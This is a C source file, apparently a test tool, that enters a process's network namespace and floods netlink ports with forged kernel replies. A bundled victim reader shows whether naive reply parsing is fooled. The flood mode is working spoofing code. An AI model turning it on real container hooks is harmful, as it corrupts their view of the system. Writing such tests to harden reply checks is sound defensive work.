// SPDX-License-Identifier: MIT
/*
 * forge flood PID		send forged answers to every port of PID's network namespace, for
 * ever forge victim PID SECONDS	be there what is fooled by them: prints "fooled", or "not
 * fooled"
 *
 * What a process with CAP_NET_ADMIN in a container's namespace can do to a hook at work there: it
 * sends datagrams that look like the kernel's answers (acknowledgements, ends of dumps, links, ids)
 * to the port that the hook's socket will have, its pid, with sequence numbers that it will use.
 * The victim is a program that reads answers as examples do: it shows that the forgery is a good
 * one.
 */
#include <errno.h>
#include <fcntl.h>
#include <linux/net_namespace.h>
#include <linux/netlink.h>
#include <linux/rtnetlink.h>
#include <sched.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <signal.h>
#include <time.h>
#include <unistd.h>

/* The system's NLMSG_* and RTA_* macros cast const away. */
#pragma GCC diagnostic ignored "-Wcast-qual"

/* A hook's requests in one namespace. */
#define SEQ_MAX 64
/* Ports around the last pid, each time; of all others a few, in turn. */
#define NEAR 64
#define FAR 64
#define PORT_MAX 32768
#define VICTIM_SEQ 7

static void must(bool done, const char *what)
{
	if (done)
		return;
	fprintf(stderr, "forge: cannot %s: %s\n", what, strerror(errno));
	exit(EXIT_FAILURE);
}

static void enter(const char *pid)
{
	char path[64];
	int netns;

	snprintf(path, sizeof(path), "/proc/%s/ns/net", pid);
	netns = open(path, O_RDONLY | O_CLOEXEC);
	must(netns >= 0 && setns(netns, CLONE_NEWNET) == 0, "enter the namespace");
	close(netns);
}

/* A datagram full of answers. */
struct forgery {
	size_t size;
	_Alignas(struct nlmsghdr) char data[SEQ_MAX * 160];
};

static void *put(struct forgery *forgery, uint16_t type, uint32_t seq, size_t payload)
{
	struct nlmsghdr *message = (void *)(forgery->data + forgery->size);

	*message = (struct nlmsghdr){
		.nlmsg_len = (uint32_t)NLMSG_LENGTH(payload), .nlmsg_type = type, .nlmsg_seq = seq
	};
	memset(NLMSG_DATA(message), 0, payload);
	forgery->size += NLMSG_SPACE(payload);
	return NLMSG_DATA(message);
}

/* For each number: a link that is up, an id, and then that all is well. */
static void forge(struct forgery *forgery)
{
	forgery->size = 0;
	for (uint32_t seq = 1; seq <= SEQ_MAX; seq++) {
		struct ifinfomsg *link = put(forgery, RTM_NEWLINK, seq, sizeof(*link));

		link->ifi_index = 1;
		link->ifi_flags = 1;
		put(forgery, RTM_NEWNSID, seq, sizeof(struct rtgenmsg));
		put(forgery, NLMSG_ERROR, seq, sizeof(struct nlmsgerr));
		put(forgery, NLMSG_DONE, seq, sizeof(int));
	}
}

/* A reader may compare the port as well. */
static void address_to(struct forgery *forgery, uint32_t port)
{
	for (size_t at = 0; at < forgery->size;) {
		struct nlmsghdr *message = (void *)(forgery->data + at);

		message->nlmsg_pid = port;
		at += NLMSG_ALIGN(message->nlmsg_len);
	}
}

static void send_to(int nl, struct forgery *forgery, uint32_t port)
{
	const struct sockaddr_nl to = { .nl_family = AF_NETLINK, .nl_pid = port };

	address_to(forgery, port);
	/* Nearly nobody is there. */
	sendto(nl, forgery->data, forgery->size, MSG_DONTWAIT, (const struct sockaddr *)&to,
		sizeof(to));
}

/* The pid that was given out last. */
static uint32_t last_pid(void)
{
	char text[128] = "";
	int fd = open("/proc/loadavg", O_RDONLY | O_CLOEXEC);
	const char *at;
	ssize_t n = read(fd, text, sizeof(text) - 1);

	close(fd);
	text[n > 0 ? n : 0] = '\0';
	at = strrchr(text, ' ');
	return at ? (uint32_t)strtoul(at, NULL, 10) : 0;
}

static int open_netlink(void)
{
	int nl = socket(AF_NETLINK, SOCK_RAW | SOCK_CLOEXEC, NETLINK_ROUTE);

	must(nl >= 0, "open a netlink socket");
	return nl;
}

static void flood(void)
{
	static struct forgery forgery;
	int nl = open_netlink();
	uint32_t far = 1;

	prctl(PR_SET_PDEATHSIG, SIGKILL);
	forge(&forgery);
	for (;;) {
		uint32_t last = last_pid();

		for (uint32_t i = 0; i < NEAR; i++)
			send_to(nl, &forgery, last + NEAR / 8 > i ? last + NEAR / 8 - i : 1);
		for (uint32_t i = 0; i < FAR; i++)
			send_to(nl, &forgery, far = far % PORT_MAX + 1);
	}
}

/* The first answer with the right number, whoever sent it. */
static int read_naively(int nl)
{
	_Alignas(struct nlmsghdr) char buffer[65536];

	for (;;) {
		ssize_t n = recv(nl, buffer, sizeof(buffer), 0);
		const struct nlmsghdr *message = (void *)buffer;
		unsigned left = n > 0 ? (unsigned)n : 0;

		if (n < 0 && errno != ENOBUFS)
			return -errno;
		for (; NLMSG_OK(message, left); message = NLMSG_NEXT(message, left))
			if (message->nlmsg_type == NLMSG_ERROR && message->nlmsg_seq == VICTIM_SEQ)
				return ((const struct nlmsgerr *)NLMSG_DATA(message))->error;
	}
}

/* Asks for a second lo, which the kernel always refuses. Returns whether it believes to have it. */
static bool ask(void)
{
	struct {
		struct nlmsghdr header;
		struct ifinfomsg link;
		struct rtattr name;
		/* cppcheck-suppress unusedStructMember ; the kernel reads it */
		char text[4];
	} request = {
		.header = { .nlmsg_len = sizeof(request),
			.nlmsg_type = RTM_NEWLINK,
			.nlmsg_flags = NLM_F_REQUEST | NLM_F_ACK | NLM_F_CREATE | NLM_F_EXCL,
			.nlmsg_seq = VICTIM_SEQ },
		.name = { RTA_LENGTH(3), IFLA_IFNAME },
		.text = "lo",
	};
	const struct sockaddr_nl own = { .nl_family = AF_NETLINK, .nl_pid = (uint32_t)getpid() };
	int nl = open_netlink();
	int r;

	must(bind(nl, (const struct sockaddr *)&own, sizeof(own)) == 0, "bind");
	nanosleep(&(struct timespec){ .tv_nsec = 1000000 }, NULL); /* to be found by the flood */
	must(send(nl, &request, sizeof(request), 0) > 0, "ask the kernel");
	r = read_naively(nl);
	close(nl);
	return r == 0;
}

static int be_victim(unsigned seconds)
{
	time_t end = time(NULL) + (time_t)seconds;

	while (time(NULL) < end)
		if (ask()) {
			puts("fooled");
			return EXIT_SUCCESS;
		}
	puts("not fooled");
	return EXIT_FAILURE;
}

int main(int argc, char *argv[])
{
	bool floods = argc == 3 && !strcmp(argv[1], "flood");

	if (!floods && (argc != 4 || strcmp(argv[1], "victim") != 0)) {
		fprintf(stderr, "usage: forge flood PID | forge victim PID SECONDS\n");
		return 2;
	}
	enter(argv[2]);
	if (floods)
		flood();
	return be_victim((unsigned)strtoul(argv[3], NULL, 10));
}
